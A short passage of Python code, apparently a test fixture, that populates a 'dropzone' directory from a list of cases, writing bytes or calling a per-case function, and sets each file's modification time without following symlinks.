    outside.mkdir(parents=True, exist_ok=True)
    for n, case in enumerate(CASES):
        target = dropzone / case.path
        target.parent.mkdir(parents=True, exist_ok=True)
        if callable(case.data):
            case.data(target, outside)
        else:
            target.write_bytes(case.data)
        mtime = 1_700_000_000 + 60 * n
        os.utime(target, (mtime, mtime), follow_symlinks=False)
